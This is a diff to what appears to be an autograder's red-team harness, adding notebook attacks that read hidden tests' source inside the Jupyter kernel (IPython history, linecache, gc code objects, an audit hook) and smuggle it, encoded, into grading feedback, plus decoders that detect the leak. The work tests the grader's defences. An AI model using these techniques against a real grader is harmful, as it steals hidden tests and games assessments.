@@ -20,6 +20,9 @@ Every attack is an :class:`Attack`: a name, a builder that returns the notebook
   files, the solutions, the gradebook; writing outside; the network).
 * ``keyword_needs``: capabilities without which the keywords are not required
   (a memory hog stays under the limit nobody set).
+* ``leak``: for the attacks that read hidden tests' source inside the kernel and
+  smuggle it, encoded, into the feedback: the encoding (a key of ``DECODERS``);
+  the test decodes the feedback with it and looks for the hidden tests' lines.
 
 Every attack is bounded, so that it cannot harm the machine when a limit is not
 in force: loops end after ``Context.loop_seconds`` (300 s), the memory hog stops
@@ -37,10 +40,14 @@ writes the attacks as ``OUT_DIR/atk_<name>/day01/day01.ipynb`` (all but the
 
 from __future__ import annotations
 
+import base64
+import binascii
 import copy
+import html
 import math
 import re
 import sys
+import zlib
 from dataclasses import dataclass, field
 from pathlib import Path
 from typing import Callable
@@ -94,6 +101,7 @@ class Attack:
     needs: tuple[str, ...] = ()
     keyword_needs: tuple[str, ...] = ()
     harmful: bool = False  # harms the machine where ``needs`` are not in force: never run it there
+    leak: str = ""  # the encoding a hidden-test reader uses (a key of DECODERS); "" for the other attacks
 
     @property
     def student(self) -> str:
@@ -831,6 +839,249 @@ day01_quiz = {{}}
 """, ctx))
 
 
+# --------------------------------------------------------------------------- reading hidden tests in the kernel
+
+# What a later cell can read of earlier cells inside the kernel, and ways to encode it. Each reader returns
+# a list of texts; _AtkLeak's repr is what one reader found, encoded, so that a failing visible test that
+# shows the repr of a student's value carries it into the feedback.
+KERNEL_READERS = r"""
+import base64 as _atk_b64, gc as _atk_gc, inspect as _atk_inspect, linecache as _atk_lc, re as _atk_re
+import sys as _atk_sys, types as _atk_types, zlib as _atk_zlib
+
+
+def _atk_from_history():
+    '''IPython's input history, as the notebook sees it: In and _ih.'''
+    ns = get_ipython().user_ns
+    return [text for name in ("In", "_ih") for text in ns.get(name, [])]
+
+
+def _atk_from_history_manager():
+    '''The history manager: its lists, caches, saved exceptions and outputs, and its database.'''
+    hm = get_ipython().history_manager
+    texts = list(hm.input_hist_raw) + list(hm.input_hist_parsed) + [hm._i00, hm._i, hm._ii, hm._iii]
+    texts += [str(v) for v in hm.exceptions.values()] + [str(v) for v in hm.output_hist_reprs.values()]
+    texts += [str(entry) for entry in hm.db_input_cache]
+    for query in (lambda: hm.get_range(raw=True), lambda: hm.get_range(raw=False), lambda: hm.search("*")):
+        try:
+            texts += [row[-1] for row in query()]
+        except Exception:
+            pass
+    try:
+        hm.writeout_cache()
+        texts += [row[0] for row in hm.db.execute("SELECT source_raw FROM history")]
+    except Exception:
+        pass
+    return texts
+
+
+def _atk_from_i_vars():
+    '''_i, _ii, _iii and _iN: the source of the last cells and of cell N.'''
+    ns = get_ipython().user_ns
+    return [v for k, v in list(ns.items()) if _atk_re.fullmatch(r"_i+[0-9]*", k) and isinstance(v, str)]
+
+
+def _atk_from_linecache():
+    '''IPython registers every cell's source in linecache, for its tracebacks.'''
+    return ["".join(entry[2]) for name, entry in list(_atk_lc.cache.items())
+            if len(entry) == 4 and (entry[1] is None or "ipykernel_" in str(name))]
+
+
+def _atk_code_texts(code, seen):
+    '''A code object's constants (nested code objects too) and whatever source its file name still finds.'''
+    if id(code) in seen:
+        return []
+    seen.add(id(code))
+    texts = ["".join(_atk_lc.getlines(code.co_filename))]
+    try:
+        texts.append(_atk_inspect.getsource(code))
+    except Exception:
+        pass
+    consts = []
+    for const in code.co_consts:
+        if isinstance(const, _atk_types.CodeType):
+            texts += _atk_code_texts(const, seen)
+        elif isinstance(const, (str, int, float, tuple)):
+            consts.append(repr(const))
+    return texts + ["\n".join(consts)]
+
+
+def _atk_cell_code(code):
+    return code is not None and "ipykernel_" in code.co_filename  # IPython's name for a cell's code
+
+
+def _atk_from_code_objects():
+    '''Functions, frames and tracebacks that earlier cells left behind, found through the garbage collector.'''
+    seen, texts = set(), []
+    for holder in (getattr(_atk_sys, "last_traceback", None), getattr(_atk_sys, "last_value", None)):
+        tb = getattr(holder, "__traceback__", holder)
+        while tb is not None:
+            texts += _atk_code_texts(tb.tb_frame.f_code, seen)
+            tb = tb.tb_next
+    for obj in _atk_gc.get_objects():
+        kind = type(obj)  # not isinstance: some of torch's objects warn when asked
+        code = (obj.__code__ if kind is _atk_types.FunctionType
+                else obj.f_code if kind is _atk_types.FrameType else None)
+        if _atk_cell_code(code):
+            texts += _atk_code_texts(code, seen)
+    return texts
+
+
+def _atk_from_leftovers():
+    '''Anything else: the last traceback IPython formatted, the last execution's cell, Out, test code in gc.'''
+    ip = get_ipython()
+    texts = [str(line) for line in (getattr(ip, "_last_traceback", None) or [])]
+    result = getattr(ip, "last_execution_result", None)
+    texts.append(getattr(getattr(result, "info", None), "raw_cell", "") or "")
+    texts += [repr(v) for v in dict(ip.user_ns.get("Out", {})).values()]
+    for obj in _atk_gc.get_objects():
+        for ref in _atk_gc.get_referents(obj):
+            if type(ref) is str and len(ref) > 40 and ("expect_" in ref or "quiz_score" in ref):
+                texts.append(ref)
+    return texts
+
+
+def _atk_everything():
+    return [text for read in (_atk_from_history, _atk_from_history_manager, _atk_from_i_vars, _atk_from_linecache,
+                              _atk_from_code_objects, _atk_from_leftovers) for text in read()]
+
+
+def _atk_dump(read):
+    '''Every line that ``read()`` found, once, in the order found.'''
+    lines = [line for text in read() for line in str(text).splitlines() if line.strip()]
+    return "\n".join(dict.fromkeys(lines))
+
+
+def _atk_encode(text, how):
+    data = text.encode("utf-8", "replace")
+    if how == "zlib":
+        return _atk_b64.b64encode(_atk_zlib.compress(data, 9)).decode()
+    if how == "hex":
+        return data.hex()
+    b64 = _atk_b64.b64encode(data).decode()
+    if how == "tokens":  # short words, no long unbroken run
+        return "ATK: " + " ".join(b64[i:i + 6] for i in range(0, len(b64), 6))
+    return b64
+
+
+class _AtkLeak:
+    '''Its repr is what ``read`` finds in the kernel when the repr is taken, encoded.'''
+    def __init__(self, read, how):
+        self.read, self.how = read, how
+
+    def __repr__(self):
+        return _atk_encode(_atk_dump(self.read), self.how)
+"""
+
+# the quiz is the last item: its visible test runs after every other item's hidden test
+QUIZ_LEAKING = """
+day01_quiz = {"q1": "b", "q2": "c", "q3": "c", "q4": "a", "q5": "b", "q6": _AtkLeak(@READ@, "@HOW@")}
+"""
+NOT_THE_QUIZ = {item: FULL for item in ITEMS if item != "day01_quiz"}
+
+
+def _quiz_leak(name: str, read: str, how: str, ctx: Context) -> nbformat.NotebookNode:
+    """Reference answers; a quiz answer whose repr (in the quiz's visible test message) is what ``read`` finds."""
+    return _reference(day01_quiz=_code(name, KERNEL_READERS + QUIZ_LEAKING, ctx, READ=read, HOW=how))
+
+
+def leak_history(ctx: Context):
+    return _quiz_leak("leak_history", "_atk_from_history", "base64", ctx)
+
+
+def leak_code_objects(ctx: Context):
+    """conv_output_size accepts a float size, so its hidden test fails: its traceback stays in sys.last_traceback."""
+    ref = reference_answers(DAY)["conv_output_size"].replace(
+        "isinstance(value, bool) or not isinstance(value, int)", "isinstance(value, bool)")
+    nb = _quiz_leak("leak_code_objects", "_atk_from_code_objects", "zlib", ctx)
+    _cell(nb, "conv_output_size").source = ref
+    return nb
+
+
+def leak_history_manager(ctx: Context):
+    """receptive_field returns an object that is not an int: expect_int shows its repr."""
+    return _reference(receptive_field=_code("leak_history_manager", KERNEL_READERS + """
+def receptive_field(layers):
+    return _AtkLeak(_atk_from_history_manager, "zlib")
+""", ctx))
+
+
+def leak_linecache(ctx: Context):
+    """vertical_edge_conv returns an object of a class named with the hex of linecache (the test shows the name)."""
+    return _reference(vertical_edge_conv=_code("leak_linecache", KERNEL_READERS + """
+def vertical_edge_conv():
+    return type(_atk_encode(_atk_dump(_atk_from_linecache), "hex"), (), {})()
+""", ctx))
+
+
+def leak_i_vars(ctx: Context):
+    """The student's own last cell raises an error whose message is _i* in short tokens."""
+    nb = _reference(conv_output_size=_code("leak_i_vars", KERNEL_READERS, ctx)
+                    + reference_answers(DAY)["conv_output_size"])
+    nb.cells.append(nbformat.v4.new_code_cell(_code("leak_i_vars", """
+raise RuntimeError(_atk_encode(_atk_dump(_atk_from_i_vars), "tokens"))
+""", ctx)))
+    return nb
+
+
+def leak_own_outputs(ctx: Context):
+    """The student's own last cells print, display and return everything, base64: text, HTML, a PNG, stderr."""
+    nb = _reference(conv_output_size=_code("leak_own_outputs", KERNEL_READERS, ctx)
+                    + reference_answers(DAY)["conv_output_size"])
+    nb.cells.append(nbformat.v4.new_code_cell(_code("leak_own_outputs", r"""
+import struct, sys, zlib
+from IPython.display import HTML, Image, display
+_atk_text = _atk_dump(_atk_everything)
+_atk_b = _atk_encode(_atk_text, "base64")
+
+
+def _atk_png(text):
+    # a 1x1 PNG whose tEXt chunk holds the text itself
+    def chunk(kind, data):
+        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
+            + chunk(b"tEXt", b"leak\x00" + text.encode("latin-1", "replace"))
+            + chunk(b"IDAT", zlib.compress(b"\x00\x00")) + chunk(b"IEND", b""))
+
+
+print(_atk_b)
+print(_atk_b, file=sys.stderr)
+display(HTML("<pre>" + _atk_b + "</pre>"))
+display(Image(data=_atk_png(_atk_text), format="png"))
+_atk_b
+""", ctx)))
+    return nb
+
+
+def leak_while_hidden_tests_run(ctx: Context):
+    """An audit hook, set in the first answer cell, records the source of every cell the kernel compiles from then
+    on (hidden tests included, while they run: nothing in-process can take that back); a quiz answer's repr
+    carries it."""
+    nb = _quiz_leak("leak_while_hidden_tests_run", "lambda: _atk_compiled", "zlib", ctx)
+    _cell(nb, "conv_output_size").source = _code("leak_while_hidden_tests_run", """
+import sys
+_atk_compiled = []
+
+
+def _atk_audit(event, args):
+    if event == "compile" and args and isinstance(args[0], (str, bytes)) and len(_atk_compiled) < 500:
+        _atk_compiled.append(args[0] if isinstance(args[0], str) else args[0].decode("utf-8", "replace"))
+
+
+sys.addaudithook(_atk_audit)
+""", ctx) + reference_answers(DAY)["conv_output_size"]
+    return nb
+
+
+def leak_everything(ctx: Context):
+    """All the readers at once through the quiz (base64 of zlib), and printed in full by a last cell of its own
+    (the autograded notebook keeps that cell's output: it shows what the kernel still held)."""
+    nb = _quiz_leak("leak_everything", "_atk_everything", "zlib", ctx)
+    nb.cells.append(nbformat.v4.new_code_cell(_code("leak_everything", """
+print("ATK-KERNEL:", _atk_encode(_atk_dump(_atk_everything), "zlib"))
+""", ctx)))
+    return nb
+
+
 def _all_full() -> dict[str, float]:
     return {item: FULL for item in ITEMS}
 
@@ -891,6 +1142,25 @@ ATTACKS: tuple[Attack, ...] = (
     Attack("no_showtraceback", "showtraceback disabled, so errors show no output", no_showtraceback,
            keywords=(TAMPER_WORDS, ("traceback",))),
     Attack("fake_passed_output", "prints the tests' 'passed' lines, answers wrong", fake_passed_output),
+    # reading the hidden tests inside the kernel and smuggling them, encoded, into the feedback
+    Attack("leak_history", "a quiz answer whose repr is In / _ih, base64", leak_history,
+           earns=NOT_THE_QUIZ, leak="base64"),
+    Attack("leak_history_manager", "receptive_field returns an object whose repr is the history manager's lists, "
+           "caches and database, zlib + base64", leak_history_manager,
+           earns={i: FULL for i in ITEMS if i != "receptive_field"}, leak="zlib"),
+    Attack("leak_i_vars", "a last cell of its own raises an error carrying _i, _ii, _iii and _iN in short tokens",
+           leak_i_vars, earns=_all_full(), keeps=ITEMS, leak="tokens"),
+    Attack("leak_linecache", "vertical_edge_conv returns an object of a class named with linecache's cells in hex",
+           leak_linecache, earns={i: FULL for i in ITEMS if i != "vertical_edge_conv"}, leak="hex"),
+    Attack("leak_code_objects", "a quiz answer whose repr is the constants and source of code objects found "
+           "through gc and sys.last_traceback (a hidden test fails on purpose), zlib + base64", leak_code_objects,
+           earns=NOT_THE_QUIZ, leak="zlib"),
+    Attack("leak_own_outputs", "a last cell of its own prints, displays (HTML, a PNG) and returns everything, base64",
+           leak_own_outputs, earns=_all_full(), keeps=ITEMS, leak="base64"),
+    Attack("leak_while_hidden_tests_run", "an audit hook records every cell's source as it is compiled; a quiz "
+           "answer's repr carries it, zlib + base64", leak_while_hidden_tests_run, earns=NOT_THE_QUIZ, leak="zlib"),
+    Attack("leak_everything", "every reader at once through a quiz answer's repr, zlib + base64",
+           leak_everything, earns=NOT_THE_QUIZ, leak="zlib"),
 )
 BY_NAME = {a.name: a for a in ATTACKS}
 assert len(BY_NAME) == len(ATTACKS)
@@ -908,6 +1178,61 @@ def write_attack(root: Path, attack: Attack, ctx: Context) -> Path:
         nbformat.validate(nb)
         nbformat.write(nb, path)
     return path
+
+
+# --------------------------------------------------------------------------- reading the leak attacks back
+
+B64_RUN = re.compile(r"[A-Za-z0-9+/]{16,}={0,2}")
+HEX_RUN = re.compile(r"[0-9a-fA-F]{16,}")
+TOKENS = re.compile(r"ATK:((?:\s+[A-Za-z0-9+/=]{1,8})+)")
+
+
+def _b64(run: str) -> bytes:
+    run = run.rstrip("=")
+    run = run[: len(run) - len(run) % 4]
+    try:
+        return base64.b64decode(run + "=" * (-len(run) % 4))
+    except (binascii.Error, ValueError):
+        return b""
+
+
+def _inflated(data: bytes) -> bytes:
+    """As much of a zlib stream as ``data`` holds (a cut stream gives its beginning)."""
+    try:
+        return zlib.decompressobj().decompress(data)
+    except zlib.error:
+        return b""
+
+
+def _text(chunks) -> str:
+    return "\n".join(chunk.decode("utf-8", "replace") for chunk in chunks if chunk)
+
+
+DECODERS: dict[str, Callable[[str], str]] = {
+    "base64": lambda text: _text(_b64(run) for run in B64_RUN.findall(text)),
+    "zlib": lambda text: _text(_inflated(_b64(run)) for run in B64_RUN.findall(text)),
+    "hex": lambda text: _text(bytes.fromhex(run[: len(run) // 2 * 2]) for run in HEX_RUN.findall(text)),
+    "tokens": lambda text: _text(_b64("".join(found.split())) for found in TOKENS.findall(text)),
+}
+
+
+def decoded(page: str, how: str) -> str:
+    """What the decoder ``how`` reads out of a page (HTML entities undone first: a student reads the source too)."""
+    return DECODERS[how](html.unescape(page))
+
+
+def hidden_test_lines() -> set[str]:
+    """Day 1's hidden-test lines worth keeping (12 characters or more, no comment) that the release does not show."""
+    from course.notebooks import read_notebook
+
+    from course.grading.feedback import hidden_lines
+
+    public = "\n".join(c.source for c in read_notebook(DAY.exercise_path).cells)
+    return {line for line in hidden_lines(read_notebook(DAY.solution_path).cells) if line not in public}
+
+
+def hidden_lines_in(text: str) -> list[str]:
+    return sorted(line for line in hidden_test_lines() if line in text)
 
 
 if __name__ == "__main__":
